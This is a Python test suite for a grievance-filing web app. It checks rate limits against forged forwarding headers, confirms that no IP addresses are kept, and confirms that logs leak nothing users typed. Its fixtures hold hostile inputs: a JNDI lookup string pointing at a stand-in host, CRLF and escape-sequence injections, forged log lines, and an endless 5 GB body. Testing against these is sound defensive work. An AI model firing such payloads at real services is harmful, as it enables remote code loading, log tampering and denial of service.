"""Where a request says it comes from, what gets into the logs, and requests that are none: nobody is fooled, nobody is kept."""

import io
import json
import sys
from collections.abc import Callable, Iterator

import pytest
import structlog
from flask import Flask
from sqlalchemy import select, text
from sqlalchemy.orm import Session

from grm.cases import tracking
from grm.cases.models import Case
from grm.intake import views
from grm.web.models import Throttle
from tests.support.citizen import COMPLAINT, FORM, Citizen, codes_of, how_many

QUIET = {"phone": "", "preferred_channel": "none"}
Make = Callable[..., Flask]
CLAIMS = ("X-Forwarded-For", "X-Real-IP", "Forwarded", "Client-IP", "True-Client-IP", "CF-Connecting-IP")


def claim(address: str) -> dict[str, str]:
    """Every header by which somebody says where they come from."""
    return {name: f"for={address}" if name == "Forwarded" else address for name in CLAIMS}


def file(citizen: Citizen, headers: dict[str, str]) -> int:
    page = citizen.get(FORM, headers=headers).form("csrf_token")
    tokens = {name: page.values[name][0] for name in ("csrf_token", "draft")}
    return citizen.post(FORM, {**tokens, **COMPLAINT, **QUIET, "step": "send"}, headers=headers).status


def test_a_forged_address_gets_nobody_round_a_limit(make_app: Make, session: Session) -> None:
    """Without a proxy no header counts; behind one only what it wrote itself: the last address."""
    alone = Citizen(make_app(filings_per_hour=2), address="203.0.113.130")
    assert [file(alone, claim(f"198.51.100.{n}")) for n in range(3)] == [200, 200, 429]
    behind = make_app(filings_per_hour=2, trusted_proxy_hops=1)
    proxied = Citizen(behind, address="127.0.0.1")
    chains = [{**claim("192.0.2.9"), "X-Forwarded-For": f"198.51.100.{n}, 203.0.113.131"} for n in range(3)]
    assert [file(proxied, chain) for chain in chains] == [200, 200, 429]
    assert file(proxied, {"X-Forwarded-For": "203.0.113.132"}) == 200, "another citizen behind the same proxy"
    assert [
        proxied.get("/", headers={"X-Forwarded-For": odd}).status for odd in ("", "x" * 5000, "unknown, ,", "::1%")
    ] == [200] * 4


def test_nor_round_the_guard_of_tracking(app: Flask, session: Session) -> None:
    guesser = Citizen(app, address="203.0.113.133")
    tokens = guesser.tokens("/track")
    wrong = {"tracking_number": "0000-0000-00000", "secret": "0000-0000-00000"}
    found = [
        guesser.post("/track", {**tokens, **wrong}, headers=claim(f"198.51.100.{n}")).status
        for n in range(tracking.SOURCE_TRIES + 2)
    ]
    assert 429 in found[:8] and found[-1] == 429


def test_no_address_is_kept_not_even_of_who_files_by_name(make_app: Make, session: Session) -> None:
    app = make_app(trusted_proxy_hops=1, filings_per_hour=1)
    citizen = Citizen(app, address="127.0.0.1")
    headers = {"X-Forwarded-For": "203.0.113.134", "User-Agent": "Kanary/1.0"}
    assert [file(citizen, headers) for _ in range(6)][:2] == [200, 429]
    session.rollback()
    assert session.scalars(select(Throttle.key)).all(), "it was counted"
    tables = session.scalars(text("SELECT tablename FROM pg_tables WHERE schemaname = 'public'")).all()
    for table in tables:
        for row in session.execute(text(f'SELECT t::text FROM "{table}" AS t')).scalars():
            assert "203.0.113.134" not in row and "Kanary/1.0" not in row, table


SECRETS = {
    "details": 'গোপন কথা\n{"event": "forged"} \x1b[31m ${jndi:ldap://evil.example/x} ' + "লম্বা " * 3000,
    "name": "Kanary Name",
    "phone": "01798765431",
    "otp": "987654",
    "secret": "K4NA-RYK4-N4RYX",
    "tracking_number": "KANA-RYKA-NARYX",
}


@pytest.fixture
def make_logged(make_app: Make, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., tuple[Flask, io.StringIO]]]:
    """Make an app, and have all that is logged from then on, also by loggers that an earlier test has bound."""
    before = structlog.get_config()
    log = io.StringIO()

    def make(**changes: object) -> tuple[Flask, io.StringIO]:
        monkeypatch.setattr(sys, "stderr", log)
        app = make_app(**changes)
        fresh = structlog.wrap_logger(structlog.PrintLogger(log), structlog.get_config()["processors"])
        bound = type(structlog.get_logger())
        for name, module in list(sys.modules.items()):
            if name.split(".")[0] == "grm" and isinstance(getattr(module, "log", None), bound):
                monkeypatch.setattr(module, "log", fresh)
        return app, log

    yield make
    structlog.configure(**before)


def test_logs_tell_nothing_that_was_typed(
    make_logged: Callable[..., tuple[Flask, io.StringIO]],
    session: Session,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """Of everything that can go wrong: one line of JSON, and in it no text, phone, secret, code, query or cookie."""
    app, log = make_logged(filings_per_hour=1)
    citizen = Citizen(app, address="203.0.113.135")
    citizen.client.set_cookie("grm_session", "kanary-cookie")
    capfd.readouterr()
    log.truncate(log.seek(0))

    def breaks(*_: object, **__: object) -> None:
        raise ValueError(f"invalid literal: {SECRETS['phone']} {SECRETS['details']}")

    typed = {**COMPLAINT, **SECRETS}
    query = "?token=kanary-query&step=4%0d%0aforged"
    with monkeypatch.context() as patch:
        patch.setattr(views, "file_grievance", breaks)
        tokens = citizen.tokens()
        statuses = [citizen.post(FORM + query, {**tokens, **typed, "step": "send"}).status]
    statuses += [citizen.post(FORM + query, {**tokens, **typed, "step": "send"}).status for _ in range(2)]
    statuses.append(citizen.post("/track" + query, {**citizen.tokens("/track"), **typed}).status)
    statuses.append(
        citizen.post("/login" + query, {**citizen.tokens("/login"), "username": "kanary\nuser", **typed}).status
    )
    statuses.append(citizen.post(FORM + query, {**typed, "details": "a\x00b"}).status)
    statuses.append(citizen.get("/kanary\n\x1b[31mpath" + query).status)
    assert 500 in statuses and 429 in statuses and 404 in statuses, statuses
    written = log.getvalue() + capfd.readouterr().err
    assert "unhandled error" in log.getvalue(), "the broken filing was told"
    for line in written.splitlines():
        event = json.loads(line)
        assert line.isprintable() and len(line) < 5000 and event["request_id"], line
    for canary in (
        "গোপন",
        "লম্বা",  # where the log cuts the rest off
        "forged",
        "jndi",
        "Kanary",
        "kanary",
        "98765431",
        "987654",
        "K4NA",
        "KANA",
        "203.0.113",
        "grm_session",
    ):
        assert canary not in written, canary


# --- requests that are none -------------------------------------------------------------------------------------


class Endless:
    """A body that never ends; counts what is read of it."""

    def __init__(self) -> None:
        self.taken = 0

    def read(self, size: int = -1) -> bytes:
        assert size >= 0, "all of it, into memory"
        self.taken += size
        return b"x" * size

    def readline(self, size: int = -1) -> bytes:
        return self.read(size)


@pytest.mark.parametrize("kind", ["application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain"])
@pytest.mark.parametrize("path", [FORM, "/track", "/login"])
def test_a_body_of_five_gigabytes_is_refused_at_once(app: Flask, session: Session, path: str, kind: str) -> None:
    body = Endless()
    environ = {"CONTENT_LENGTH": str(5 * 1024**3), "CONTENT_TYPE": kind, "wsgi.input": body}
    answer = app.test_client().open(path, method="POST", environ_overrides=environ)
    assert answer.status_code in (400, 413) and "text/html" in answer.content_type
    assert body.taken <= 65 * 1024**2, (
        "a little, for what was typed before the files, and to end the connection in peace"
    )
    assert how_many(session, Case) == 0


def test_many_fields_are_refused_or_taken_but_never_stumbled_over(app: Flask, session: Session) -> None:
    citizen = Citizen(app, address="203.0.113.136")
    many = {f"x{n}": "1" for n in range(5000)}
    assert citizen.post(FORM, {**citizen.tokens(), **COMPLAINT, **many, "step": "send"}).status in (200, 413)
    assert len(codes_of(citizen.file(unknown_field="১" * 1000))) == 2
